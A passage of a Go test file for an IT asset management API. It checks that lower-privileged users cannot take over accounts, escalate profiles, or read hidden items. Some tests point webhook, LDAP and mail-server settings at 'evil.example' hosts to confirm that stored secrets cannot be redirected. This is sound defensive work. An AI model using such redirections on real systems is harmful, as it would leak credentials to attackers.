package access_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/glpid/glpid/internal/testing/samples"
	"github.com/glpid/glpid/internal/testing/testapi"
)

// TestAuthorizationSeesItsDefault gives a profile where it says nothing of the entities below: the
// value that is stored is true, so that who has no access below may not give it.
func TestAuthorizationSeesItsDefault(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	paris := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "Paris", "parent": france}).ID()
	profile := s.Role("of France", map[string]int{"user": 31, "profile": 1, "entity": 1, "computer": 1})
	_, path := s.Employ("jeanne", profile, france, false)
	s.Call("glpi", "POST", "/Assets/Computer", testapi.Body{"name": "of Paris", "entity": paris}).Want(201)
	s.Call("jeanne", "POST", path+"/Authorization", testapi.Body{"profile": profile, "entity": france}).Want(403)
	s.Call("jeanne", "POST", path+"/Authorization",
		testapi.Body{"profile": profile, "entity": france, "is_recursive": true}).Want(403)
	s.Call("jeanne", "POST", path+"/Authorization",
		testapi.Body{"profile": profile, "entity": paris, "is_recursive": false}).Want(403)
	if got := s.Call("jeanne", "GET", "/Assets/Computer", nil).Want(200).List(); len(got) != 0 {
		t.Errorf("she sees %v", got)
	}
	if n := s.Scalar("SELECT COUNT(*) FROM `glpi_profiles_users` WHERE `users_id` = ?", s.UserID("jeanne")); n != "1" {
		t.Errorf("she has %s authorisations", n)
	}
	s.Call("jeanne", "POST", "/Administration/User/"+s.UserID("jeanne")+"/Authorization",
		testapi.Body{"profile": 1, "entity": france, "is_recursive": false}).Want(201)
}

// manager are the rights of somebody who looks after accounts and profiles, and is far from doing
// everything.
var manager = map[string]int{
	"user": 31 | 7168, "profile": 31, "entity": 31, "group": 31, "computer": 31, "oauth_client": 31, "rule_ldap": 31,
	"notification": 31,
	"dropdown":     31, "transfer": 1, "password_update": 1,
}

// TestAccountsOfOthersWithMoreRights tries, as somebody who may change accounts, everything that takes
// an account over or away from its owner who may do more. Names and telephone numbers are harmless.
func TestAccountsOfOthersWithMoreRights(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	s.Recruit("manager", 0, manager)
	boss := s.Call("glpi", "POST", "/Administration/User", testapi.Body{"username": "boss", "password": "boss",
		"password2": "boss", "emails": []string{"boss@example.org"}}).ID()
	path := fmt.Sprintf("/Administration/User/%d", boss)
	s.Call("glpi", "POST", path+"/Authorization", testapi.Body{"profile": 4, "entity": 0, "is_recursive": true}).Want(
		201)
	before := s.Row("glpi_users", boss)
	mail := s.Scalar("SELECT GROUP_CONCAT(`email`) FROM `glpi_useremails` WHERE `users_id` = ?", boss)
	for _, p := range s.Catalog.Object("User").Properties {
		if p.ReadOnly || harmless[p.Name] {
			continue
		}
		value, tried := map[string]any{
			"username": "nobody", "is_active": false, "is_deleted": true, "authtype": 3,
			"begin_date": "2030-01-01T00:00:00Z", "end_date": "2020-01-01T00:00:00Z",
			"password": "x", "password2": "x", "revoke_tokens": true, "emails": []string{"manager@example.org"},
			"default_profile": 1, "default_entity": 0,
			"substitution_start_date": "2020-01-01T00:00:00Z", "substitution_end_date": "2030-01-01T00:00:00Z",
		}[p.Name]
		if !tried {
			t.Errorf("whether changing the property %s of somebody with more rights is harmless is not known", p.Name)
			continue
		}
		change := testapi.Body{p.Name: value, "comment": "taken over"}
		if p.Name == "password" {
			change["password2"] = value
		}
		if p.Name == "password2" || p.Name == "default_profile" || p.Name == "default_entity" {
			continue // alone it does nothing; it has the present value
		}
		for _, at := range []string{path, "/Administration/User/username/boss"} {
			if r := s.Call("manager", "PATCH", at, change); r.Status != 400 && r.Status != 403 {
				t.Errorf("%s: %d %s", p.Name, r.Status, r.Body)
			}
		}
	}
	s.Call("manager", "PATCH", path, testapi.Body{"default_profile": 4}).Want(400)
	s.Call("manager", "DELETE", path, nil).Want(403)
	s.Call("manager", "DELETE", path+"?force=true", nil).Want(403)
	s.Call("manager", "DELETE", "/Administration/User/username/boss", nil).Want(403)
	s.Call("manager", "PATCH", path, testapi.Body{"phone": "1", "realname": "Boss"}).Want(200)
	after := s.Row("glpi_users", boss)
	for column, value := range before {
		if column != "phone" && column != "realname" && column != "date_mod" && after[column] != value {
			t.Errorf("%s was %v and is %v", column, value, after[column])
		}
	}
	if got := s.Scalar("SELECT GROUP_CONCAT(`email`) FROM `glpi_useremails` WHERE `users_id` = ?", boss); got != mail {
		t.Errorf("e-mail addresses: %s", got)
	}
	// Trashed by somebody who may, it stays there.
	s.Call("glpi", "DELETE", path, nil).Want(204)
	s.Call("manager", "PATCH", path, testapi.Body{"is_deleted": false}).Want(403)
	s.Call("manager", "DELETE", path+"?force=true", nil).Want(403)
	// Those whose rights they have they look after.
	clerk, other := s.Recruit("clerk", 0, map[string]int{"user": 1})
	for _, change := range []testapi.Body{{"username": "clerk2"}, {"is_active": false},
		{"emails": []string{"c@example.org"}}, {"password": "y", "password2": "y"}, {"is_deleted": true},
		{"is_deleted": false}} {
		s.Call("manager", "PATCH", other, change).Want(200)
	}
	s.Call("manager", "DELETE", fmt.Sprintf("/Administration/User/%d?force=true", clerk), nil).Want(204)
}

// harmless are the properties of accounts of which a change takes nothing over.
var harmless = map[string]bool{
	"realname": true, "firstname": true, "phone": true, "phone2": true, "mobile": true, "comment": true,
	"location": true, "title": true,
	"category": true, "registration_number": true, "nickname": true,
	"last_login": true, "date_creation": true, "date_mod": true, // kept by the server
}

// TestAccountsOfOtherEntities lets somebody who may do the same things in one entity only not take over
// an account that works in others too.
func TestAccountsOfOtherEntities(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	profile := s.Role("manager", manager)
	s.Employ("jeanne", profile, france, true)
	both, path := s.Employ("both", profile, france, true)
	s.Call("jeanne", "PATCH", path, testapi.Body{"password": "mine", "password2": "mine"}).Want(200)
	s.Exec("INSERT INTO `glpi_profiles_users` (`users_id`, `profiles_id`, `entities_id`, `is_recursive`) VALUES (?,"+
		" ?, 0, 1)", both, profile)
	s.Directory.Invalidate()
	for _, change := range []testapi.Body{{"password": "again", "password2": "again"}, {"username": "b"},
		{"emails": []string{"j@example.org"}}, {"is_active": false}, {"is_deleted": true}} {
		if r := s.Call("jeanne", "PATCH", path, change); r.Status != 400 && r.Status != 403 {
			t.Errorf("%v: %d %s", change, r.Status, r.Body)
		}
	}
	s.Call("jeanne", "DELETE", path, nil).Want(403)
	s.Call("jeanne", "PATCH", path, testapi.Body{"phone": "1"}).Want(200)
}

// TestDefaultProfileIsCovered keeps people from making a profile with more rights than their own the
// default, and from creating accounts that get one.
func TestDefaultProfileIsCovered(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	s.Recruit("manager", 0, manager)
	const super, technician, own = "/Administration/Profile/4", "/Administration/Profile/6", "/Administration/Profile"
	for _, path := range []string{super, technician} {
		for _, change := range []testapi.Body{
			{"is_default": true}, {"is_default": 1, "comment": "x"}, {"name": "x"},
			{"mfa_enforced": false, "managed_domainrecordtypes": "[-1]"},
		} {
			s.Call("manager", "PATCH", path, change).Want(403)
		}
		s.Call("manager", "DELETE", path, nil).Want(403)
	}
	if got := s.Scalar("SELECT GROUP_CONCAT(`id`) FROM `glpi_profiles` WHERE `is_default` = 1"); got != "1" {
		t.Fatalf("default profiles: %s", got)
	}
	// Their own profile gets nothing by a change, and what they have they may hand out.
	mine := fmt.Sprint(own, "/", s.Scalar("SELECT `profiles_id` FROM `glpi_profiles_users` WHERE `users_id` = ?",
		s.UserID("manager")))
	s.Exec("UPDATE `glpi_profiles` SET `managed_domainrecordtypes` = '[1,2]' WHERE `name` = 'profile of manager'")
	s.Directory.Invalidate()
	s.Call("manager", "PATCH", mine, testapi.Body{"managed_domainrecordtypes": "[-1]"}).Want(403)
	s.Call("manager", "PATCH", mine, testapi.Body{"managed_domainrecordtypes": "[1,3]"}).Want(403)
	s.Call("manager", "PATCH", mine, testapi.Body{"managed_domainrecordtypes": "[2]", "comment": "less"}).Want(200)
	s.Call("manager", "PATCH", "/Administration/Profile/1", testapi.Body{"comment": "of self-service"}).Want(200)
	s.Call("manager", "PATCH", mine, testapi.Body{"is_default": true}).Want(200)
	s.Call("manager", "POST", "/Administration/User", testapi.Body{"username": "covered"}).Want(201)

	s.Call("glpi", "PATCH", technician, testapi.Body{"is_default": true}).Want(200)
	s.Call("manager", "POST", "/Administration/User", testapi.Body{"username": "technician", "password": "x",
		"password2": "x"}).Want(403)
	if n := s.Scalar("SELECT COUNT(*) FROM `glpi_users` WHERE `name` = 'technician'"); n != "0" {
		t.Error("the account was made")
	}
	s.Call("glpi", "POST", "/Administration/User", testapi.Body{"username": "technician"}).Want(201)
	for _, profile := range []int{3, 4, 6, 8} {
		s.Call("manager", "POST", "/Administration/User/"+s.UserID("manager")+"/Authorization",
			testapi.Body{"profile": profile, "entity": 0}).Want(403)
	}
}

// TestRulesGiveNothing keeps rules of accounts from giving what whoever writes them lacks, by any way of
// writing one: its actions, what is left of them, its criteria, and switching it on.
func TestRulesGiveNothing(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	s.Recruit("manager", 0, manager)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	s.Employ("jeanne", s.Role("managers", manager), france, true)
	const rules = "/Rule/Collection/Right/Rule"
	clerks := s.Role("clerks", map[string]int{"computer": 1})
	rule := func(user string) string {
		t.Helper()
		return fmt.Sprintf("%s/%d", rules,
			s.Call(user, "POST", rules, testapi.Body{"name": testapi.Unique(), "match": "AND", "condition": 0}).ID())
	}
	action := func(field string, value any) testapi.Body {
		return testapi.Body{"field": field, "action_type": "assign", "value": value}
	}
	own := rule("manager")
	for _, refused := range []testapi.Body{
		action("profiles_id", 4), action("profiles_id", 6), action("_profiles_id_default", 4), action("_deny_login", 1),
		action("is_active", 0),
	} {
		s.Call("manager", "POST", own+"/Action", refused).Want(403)
	}
	if n := s.Scalar("SELECT COUNT(*) FROM `glpi_ruleactions` WHERE `rules_id` = (SELECT MAX(`id`) FROM `glpi_rules`)"); n != "0" {
		t.Errorf("%s actions", n)
	}
	mine := s.Call("manager", "POST", own+"/Action", action("profiles_id", clerks)).Want(201)
	s.Call("manager", "PATCH", fmt.Sprintf("%s/Action/%v", own, mine.At("id")), testapi.Body{"value": "4"}).Want(403)
	s.Call("manager", "POST", own+"/Criteria", testapi.Body{"criteria": "LOGIN", "condition": 0, "pattern": "x"}).Want(
		201)

	super := rule("glpi")
	given := s.Call("glpi", "POST", super+"/Action", action("profiles_id", 4)).ID()
	criterion := s.Call("glpi", "POST", super+"/Criteria",
		testapi.Body{"criteria": "LOGIN", "condition": 0, "pattern": "boss"}).ID()
	for path, change := range map[string]testapi.Body{
		super: {"is_active": true}, fmt.Sprintf("%s/Criteria/%d", super, criterion): {"pattern": "manager"},
		fmt.Sprintf("%s/Action/%d", super, given): {"value": "1"},
	} {
		s.Call("manager", "PATCH", path, change).Want(403)
		s.Call("manager", "DELETE", path, nil).Want(403)
	}
	s.Call("manager", "POST", super+"/Criteria",
		testapi.Body{"criteria": "LOGIN", "condition": 0, "pattern": "manager"}).Want(403)

	// Rules of accounts count everywhere, so that they are not for those who work in one entity.
	s.Call("jeanne", "POST", rules, testapi.Body{"name": "r", "match": "AND"}).Want(403)
	s.Call("jeanne", "POST", own+"/Criteria", testapi.Body{"criteria": "LOGIN", "condition": 0, "pattern": "x"}).Want(
		404)

	// Somebody with the same rights at the top alone does not give them below.
	s.Employ("top", s.Role("of the top", manager), 0, false)
	s.Call("top", "POST", rules, testapi.Body{"name": "r", "match": "AND"}).Want(403)
}

// TestRulesReachNoFurther keeps rules of tickets from counting below the entities of whoever writes them.
func TestRulesReachNoFurther(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	s.Employ("jeanne", s.Role("rulers", map[string]int{"rule_ticket": 31 | 1024, "notification": 31, "config": 3,
		"ticket": 31 | 1024, "followup": 1 | 8192}), france, false)
	for _, path := range []string{"/Rule/Collection/Ticket/Rule", "/Notifications/Notification", "/Setup/Webhook"} {
		made := testapi.Body{"name": "below", "match": "AND", "condition": 1, "itemtype": "Ticket", "event": "new",
			"url": "https://example.org/"}
		made["is_recursive"] = true
		s.Call("jeanne", "POST", path, made).Want(403)
		made["is_recursive"] = false
		item := fmt.Sprintf("%s/%d", path, s.Call("jeanne", "POST", path, made).ID())
		s.Call("jeanne", "PATCH", item, testapi.Body{"is_recursive": true}).Want(403)
		s.Call("jeanne", "PATCH", item, testapi.Body{"name": "here"}).Want(200)
		s.Call("glpi", "PATCH", item, testapi.Body{"is_recursive": true}).Want(200)
		s.Call("jeanne", "PATCH", item, testapi.Body{"name": "mine"}).Want(403)
	}
}

// TestTellingNeedsSeeing keeps those who set up webhooks and notifications from being told by them what
// they cannot read: items that are not theirs, private followups, what belongs to such items.
func TestTellingNeedsSeeing(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	half := map[string]int{"config": 3, "notification": 31, "ticket": 1, "followup": 1, "computer": 256}
	s.Recruit("half", 0, half)
	all := map[string]int{"config": 3, "notification": 31, "ticket": 1 | 1024, "followup": 1 | 8192, "change": 1024,
		"problem": 1024, "computer": 1, "task": 1 | 8192}
	s.Recruit("all", 0, all)
	for _, path := range []string{"/Setup/Webhook", "/Notifications/Notification"} {
		for _, itemtype := range []string{"Ticket", "ITILFollowup", "TicketTask", "Computer", "Change", "Contract"} {
			made := testapi.Body{"name": "n", "itemtype": itemtype, "event": "new", "url": "https://example.org/"}
			s.Call("half", "POST", path, made).Want(403)
			if itemtype != "Contract" {
				s.Call("all", "POST", path, made).Want(201)
			}
		}
		item := fmt.Sprintf("%s/%d", path,
			s.Call("glpi", "POST", path, testapi.Body{"name": "n", "itemtype": "Ticket", "event": "new",
				"url": "https://example.org/"}).ID())
		s.Call("half", "PATCH", item, testapi.Body{"url": "https://half.example/", "name": "mine"}).Want(403)
	}
	note := fmt.Sprintf("/Notifications/Notification/%d", s.Call("glpi", "POST", "/Notifications/Notification",
		testapi.Body{"name": "n", "itemtype": "Ticket", "event": "new"}).ID())
	s.Call("half", "POST", note+"/Recipient", testapi.Body{"type": 1, "items_id": 1}).Want(403)
	s.Call("all", "POST", note+"/Recipient", testapi.Body{"type": 1, "items_id": 1}).Want(201)
}

// TestDefinitionsGiveNothing keeps whoever changes definitions of custom assets from giving themselves
// rights on the assets that there are.
func TestDefinitionsGiveNothing(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	profile := s.Role("configurers", map[string]int{"config": 3})
	s.Employ("half", profile, 0, true)
	definition := s.Define("Safe", testapi.Body{"profiles": testapi.Body{"4": 31}})
	s.Call("glpi", "POST", "/Assets/Custom/Safe", testapi.Body{"name": "gold"}).Want(201)
	s.Call("half", "GET", "/Assets/Custom/Safe", nil).Want(403)
	for _, rights := range []any{testapi.Body{fmt.Sprint(profile): 1}, fmt.Sprintf(`{"4":31,"%d":31}`, profile),
		testapi.Body{"1": 1, "4": 31}} {
		s.Call("half", "PATCH", definition, testapi.Body{"profiles": rights}).Want(403)
	}
	s.Call("half", "GET", "/Assets/Custom/Safe", nil).Want(403)
	s.Call("half", "PATCH", definition, testapi.Body{"label": "Safes", "profiles": testapi.Body{"4": 31}}).Want(200)
	s.Call("half", "POST", "/Assets/CustomDefinition", testapi.Body{"system_name": "Own", "is_active": true}).Want(201)
	s.Call("half", "GET", "/Assets/Custom/Own", nil).Want(200)
	s.Call("glpi", "PATCH", definition, testapi.Body{"profiles": testapi.Body{"4": 31, fmt.Sprint(profile): 3}}).Want(
		200)
	s.Call("half", "PATCH", definition,
		testapi.Body{"profiles": testapi.Body{"4": 31, fmt.Sprint(profile): 3, "6": 1}}).Want(200)
	s.Call("half", "PATCH", definition, testapi.Body{"profiles": testapi.Body{"4": 31, fmt.Sprint(profile): 7}}).Want(
		403)
}

// TestServersThatLetOthersIn keeps whoever may change the configuration from naming another server for
// the passwords of somebody with more rights.
func TestServersThatLetOthersIn(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	s.Recruit("half", 0, map[string]int{"config": 3})
	for path, kind := range map[string]int{"/Setup/LDAPDirectory": 3, "/Setup/EmailAuthServer": 2} {
		made := testapi.Body{"name": "n", "host": "directory.example.org", "domain": "mail.example.org"}
		item := s.Call("half", "POST", path, made).ID()
		at := fmt.Sprintf("%s/%d", path, item)
		s.Call("half", "PATCH", at, testapi.Body{"comment": "unused"}).Want(200)
		boss, account := s.Employ("boss"+fmt.Sprint(kind), 4, 0, true)
		s.Exec("UPDATE `glpi_users` SET `authtype` = ?, `auths_id` = ? WHERE `id` = ?", kind, item, boss)
		for _, change := range []testapi.Body{{"host": "evil.example"}, {"domain": "evil.example"},
			{"connection_filter": "(uid=*)"}, {"comment": "x"}} {
			s.Call("half", "PATCH", at, change).Want(403)
		}
		s.Call("half", "DELETE", at, nil).Want(403)
		if kind == 3 {
			s.Call("half", "POST", "/Setup/LDAPDirectoryReplicate",
				testapi.Body{"name": "r", "host": "evil.example", "ldap_directory": item}).Want(403)
		}
		s.Call("glpi", "PATCH", at, testapi.Body{"comment": "x"}).Want(200)
		s.Call("glpi", "DELETE", account+"?force=true", nil).Want(204)
		s.Call("half", "DELETE", at, nil).Want(204)
	}
}

// TestMembershipBelow keeps whoever may change a group from making its members those of groups below it
// that are not theirs to change.
func TestMembershipBelow(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	s.Employ("jeanne", s.Role("managers", manager), france, true)
	above := s.Call("glpi", "POST", "/Administration/Group", testapi.Body{"name": "of France", "entity": france}).ID()
	below := s.Call("glpi", "POST", "/Administration/Group",
		testapi.Body{"name": "board", "entity": 0, "parent": above}).ID()
	group := fmt.Sprintf("/Administration/Group/%d", above)
	s.Call("jeanne", "PATCH", group, testapi.Body{"comment": "mine"}).Want(200)
	s.Call("jeanne", "PATCH", group, testapi.Body{"recursive_membership": true}).Want(403)
	s.Call("jeanne", "POST", fmt.Sprintf("/Administration/Group/%d/Member", below), testapi.Body{"user": 2}).Want(404)
	s.Call("glpi", "DELETE", fmt.Sprintf("/Administration/Group/%d", below), nil).Want(204)
	s.Call("jeanne", "PATCH", group, testapi.Body{"recursive_membership": true}).Want(200)
}

// TestPredefinedFieldsNameWhatIsSeen keeps templates from filling in what whoever writes them does not
// see: the tickets that are made from them would show it.
func TestPredefinedFieldsNameWhatIsSeen(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	s.Employ("jeanne", s.Role("writers", map[string]int{"itiltemplate": 31, "computer": 31, "group": 1,
		"itilcategory": 31, "ticketrecurrent": 31}), france, true)
	hidden := map[int]string{
		13: fmt.Sprintf("Computer_%d",
			s.Call("glpi", "POST", "/Assets/Computer", testapi.Body{"name": "secret", "entity": 0}).ID()),
		8: fmt.Sprint(s.Call("glpi", "POST", "/Administration/Group",
			testapi.Body{"name": "secret", "entity": 0}).ID()),
		7: fmt.Sprint(s.Call("glpi", "POST", "/Dropdowns/ITILCategory",
			testapi.Body{"name": "secret", "entity": 0}).ID()),
	}
	seen := fmt.Sprintf("Computer_%d", s.Call("jeanne", "POST", "/Assets/Computer", testapi.Body{"name": "mine"}).ID())
	for _, kind := range []string{"Ticket", "Change", "Problem"} {
		fields := fmt.Sprintf("/Assistance/%sTemplate/%d/PredefinedField", kind,
			s.Call("jeanne", "POST", "/Assistance/"+kind+"Template", testapi.Body{"name": "t"}).ID())
		for num, value := range hidden {
			for _, form := range []string{value, " " + value, value + "\t", "+" + value, "0" + value} {
				r := s.Call("jeanne", "POST", fields, testapi.Body{"num": num, "value": form})
				if r.Status != 400 && (num == 7 || form == value) { // no other form names a group or an asset
					t.Errorf("%s: %d, %q: %d", kind, num, form, r.Status)
				}
			}
		}
		s.Call("jeanne", "POST", fields, testapi.Body{"num": 1, "value": "a name"}).Want(201)
		own := fmt.Sprintf("%s/%d", fields,
			s.Call("jeanne", "POST", fields, testapi.Body{"num": 13, "value": seen}).ID())
		s.Call("jeanne", "PATCH", own, testapi.Body{"value": hidden[13]}).Want(400)
	}
}

// TestAttachedByOthers keeps requesters from taking away what others have attached to their ticket.
func TestAttachedByOthers(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	s.Recruit("requester", 0, map[string]int{"ticket": 1 | 4, "followup": 1 | 4, "document": 1 | 4})
	ticket := fmt.Sprintf("/Assistance/Ticket/%d/Timeline/Document",
		s.Call("requester", "POST", "/Assistance/Ticket", testapi.Body{"name": "t", "content": "t"}).ID())
	document := s.Call("tech", "POST", "/Management/Document",
		testapi.Body{"name": "evidence", "link": "https://example.org/e"}).ID()
	link := fmt.Sprintf("%s/%d", ticket, s.Call("tech", "POST", ticket, testapi.Body{"document": document}).ID())
	own := s.Call("requester", "POST", "/Management/Document",
		testapi.Body{"name": "mine", "link": "https://example.org/m"}).ID()
	mine := fmt.Sprintf("%s/%d", ticket, s.Call("requester", "POST", ticket, testapi.Body{"document": own}).ID())
	s.Call("tech", "POST", ticket[:len(ticket)-len("Document")]+"Followup", testapi.Body{"content": "seen"}).Want(201)
	s.Call("requester", "DELETE", link, nil).Want(403)
	s.Call("requester", "PATCH", link, testapi.Body{"timeline_position": 1}).Want(403)
	if n := s.Count("glpi_documents_items"); n != 2 {
		t.Errorf("%d documents are attached", n)
	}
	s.Call("requester", "DELETE", mine, nil).Want(204)
	s.Call("tech", "DELETE", link, nil).Want(204)
}

// TestQueuesTellWhatIsSeen shows what waits to be told to those only who see all that it tells of.
func TestQueuesTellWhatIsSeen(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	s.Recruit("half", 0, map[string]int{"config": 3, "queuednotification": 31, "ticket": 1, "computer": 1})
	s.Exec("INSERT INTO `glpi_queuednotifications` (`itemtype`, `name`, `entities_id`) VALUES ('Ticket', 'secret'," +
		" 0), ('Computer', 'known', 0)")
	s.Exec("INSERT INTO `glpi_queuedwebhooks` (`itemtype`, `body`, `entities_id`) VALUES ('Ticket', 'secret', 0)," +
		" ('Computer', 'known', 0)")
	for _, path := range []string{"/Notifications/QueuedNotification", "/Setup/QueuedWebhook"} {
		if got := s.Call("half", "GET", path, nil).Want(200).List(); len(got) != 1 || got[0]["itemtype"] != "Computer" {
			t.Errorf("%s: %v", path, got)
		}
		s.Call("half", "GET", path+"/1", nil).Want(404)
		s.Call("half", "GET", path+"/2", nil).Want(200)
		if got := s.Call("glpi", "GET", path, nil).Want(200).List(); len(got) != 2 {
			t.Errorf("%s: %v", path, got)
		}
	}
	if got := s.Call("half", "POST", "/GraphQL",
		testapi.Body{"query": "{QueuedNotification{name} QueuedWebhook{body}}"}).Want(200); strings.Contains(
		string(got.Body), "secret") {
		t.Error(string(got.Body))
	}
	s.Call("half", "POST", "/Notifications/QueuedNotification/1/SendRequest", nil).Want(404)
}

// TestRuleActionsNameWhatIsSeen keeps rules from putting what their writer does not see into tickets that
// show it.
func TestRuleActionsNameWhatIsSeen(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	s.Employ("jeanne", s.Role("rulers", map[string]int{"rule_ticket": 31 | 1024, "group": 31, "location": 31}), france,
		true)
	rule := fmt.Sprintf("/Rule/Collection/Ticket/Rule/%d/Action",
		s.Call("jeanne", "POST", "/Rule/Collection/Ticket/Rule",
			testapi.Body{"name": "r", "match": "AND", "condition": 1}).ID())
	hidden := s.Call("glpi", "POST", "/Administration/Group", testapi.Body{"name": "secret", "entity": 0}).ID()
	seen := s.Call("jeanne", "POST", "/Administration/Group", testapi.Body{"name": "mine"}).ID()
	action := func(id int64) testapi.Body {
		return testapi.Body{"field": "_groups_id_assign", "action_type": "assign", "value": fmt.Sprint(id)}
	}
	s.Call("jeanne", "POST", rule, action(hidden)).Want(400)
	own := fmt.Sprintf("%s/%d", rule, s.Call("jeanne", "POST", rule, action(seen)).ID())
	s.Call("jeanne", "PATCH", own, testapi.Body{"value": fmt.Sprint(hidden)}).Want(400)
	// nor as one of several
	s.Call("jeanne", "PATCH", own, testapi.Body{"value": fmt.Sprint(seen, ",", seen)}).Want(200)
	s.Call("jeanne", "PATCH", own, testapi.Body{"value": fmt.Sprint(seen, ", ", hidden)}).Want(400)
	s.Call("jeanne", "PATCH", own, testapi.Body{"value": fmt.Sprint(hidden, ",")}).Want(400)
}

// TestNewProfilesShowNoHardware keeps people from making, giving and changing self-service profiles that show
// all items of types of which they see none.
func TestNewProfilesShowNoHardware(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	s.Recruit("half", 0, map[string]int{"user": 31, "profile": 31})
	const profiles = "/Administration/Profile"
	for _, made := range []testapi.Body{
		{"helpdesk_hardware": 3, "helpdesk_item_type": `["Computer"]`},
		{"helpdesk_hardware": 2, "helpdesk_item_type": `["Computer"]`, "is_default": true},
	} {
		made["name"] = testapi.Unique()
		s.Call("half", "POST", profiles, made).Want(403)
	}
	own := fmt.Sprintf("%s/%d", profiles,
		s.Call("half", "POST", profiles,
			testapi.Body{"name": "own", "helpdesk_hardware": 1, "helpdesk_item_type": `["Computer"]`}).ID())
	s.Call("half", "PATCH", own, testapi.Body{"helpdesk_hardware": 2}).Want(403)
	all := s.Call("glpi", "POST", profiles,
		testapi.Body{"name": "all", "helpdesk_hardware": 3, "helpdesk_item_type": `["Computer"]`}).ID()
	s.Call("half", "POST", "/Administration/User/"+s.UserID("half")+"/Authorization",
		testapi.Body{"profile": all, "entity": 0}).Want(403)
	s.Call("half", "PATCH", fmt.Sprintf("%s/%d", profiles, all),
		testapi.Body{"helpdesk_item_type": `["Computer","Monitor"]`}).Want(403)
	s.Exec("UPDATE `glpi_profiles` SET `helpdesk_hardware` = 3, `helpdesk_item_type` = '[\"Computer\"]'" +
		" WHERE `name` = 'profile of half'")
	s.Directory.Invalidate()
	s.Call("half", "POST", "/Administration/User/"+s.UserID("half")+"/Authorization",
		testapi.Body{"profile": all, "entity": 0}).Want(201)
}

// TestSecretsStayWhereTheyAre keeps stored secrets, and everybody's mail, from being sent to an address that
// somebody chooses who sees neither.
func TestSecretsStayWhereTheyAre(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	s.Recruit("half", 0, map[string]int{"config": 3, "ticket": 31 | 1024, "followup": 1 | 8192})
	hook := testapi.Body{
		"name": "n", "itemtype": "Ticket", "event": "new", "url": "https://example.org/", "use_oauth": true,
		"oauth_url": "https://example.org/token",
		"clientid":  "c", "clientsecret": "secret",
	}
	for _, c := range []struct {
		path, secret string
		made         testapi.Body
		elsewhere    []testapi.Body
	}{
		{"/Setup/Webhook", "clientsecret", hook, []testapi.Body{{"oauth_url": "https://evil.example/"},
			{"url": "https://evil.example/"}}},
		{"/Setup/LDAPDirectory", "rootdn_password", testapi.Body{"name": "n", "host": "directory.example.org",
			"rootdn_password": "secret"}, []testapi.Body{{"host": "evil.example"}, {"port": 1389}}},
		{"/Setup/EmailCollector", "password", testapi.Body{"name": "n", "host": "{mail.example.org}",
			"password": "secret"}, []testapi.Body{{"host": "{evil.example}"}}},
	} {
		id := s.Call("glpi", "POST", c.path, c.made).ID()
		item := fmt.Sprintf("%s/%d", c.path, id)
		for _, change := range c.elsewhere {
			s.Call("half", "PATCH", item, change).Want(400)
			change[c.secret] = ""
			// that can be emptied
			if r := s.Call("half", "PATCH", item, change); r.Status == 200 && c.path != "/Setup/Webhook" {
				t.Errorf("%s: %s", c.path, r.Body)
			}
			change[c.secret] = "mine"
			s.Call("half", "PATCH", item, change).Want(200)
		}
		s.Call("half", "PATCH", item, testapi.Body{"comment": "x"}).Want(200)
		for name, value := range c.elsewhere[0] {
			if name != c.secret {
				s.Call("glpi", "PATCH", item, testapi.Body{name: value}).Want(200)
			}
		}
		if c.path == "/Setup/LDAPDirectory" {
			s.Call("half", "POST", "/Setup/LDAPDirectoryReplicate",
				testapi.Body{"name": "r", "host": "evil.example", "ldap_directory": id}).Want(403)
			replicate := s.Call("glpi", "POST", "/Setup/LDAPDirectoryReplicate",
				testapi.Body{"name": "r", "host": "second.example.org", "ldap_directory": id}).ID()
			s.Call("half", "PATCH", fmt.Sprintf("/Setup/LDAPDirectoryReplicate/%d", replicate),
				testapi.Body{"host": "evil.example"}).Want(403)
			s.Call("half", "PATCH", fmt.Sprintf("/Setup/LDAPDirectoryReplicate/%d", replicate),
				testapi.Body{"timeout": 5}).Want(200)
		}
	}
	headed := fmt.Sprintf("/Setup/Webhook/%d", s.Call("glpi", "POST", "/Setup/Webhook", testapi.Body{
		"name": "n", "itemtype": "Ticket", "event": "new", "url": "https://example.org/",
		"custom_headers": `{"X-Key":"secret"}`,
	}).ID())
	for _, kept := range []testapi.Body{{}, {"custom_headers": `{"X-Key":"********"}`},
		{"custom_headers": `{"X-Key":"********","X-More":"mine"}`}} {
		kept["url"] = "https://evil.example/"
		s.Call("half", "PATCH", headed, kept).Want(400)
		kept["url"] = "https://example.org/"
		s.Call("half", "PATCH", headed, kept).Want(200)
	}
	s.Call("half", "PATCH", headed,
		testapi.Body{"url": "https://evil.example/", "custom_headers": `{"X-Key":"mine"}`}).Want(200)
	for _, name := range []string{"smtp_host", "SMTP_Host", "smtp_port", "smtp_mode", "proxy_name",
		"outbound_allowed_networks"} {
		s.Call("half", "PATCH", "/Setup/Config/core/"+name, testapi.Body{"value": "1"}).Want(403)
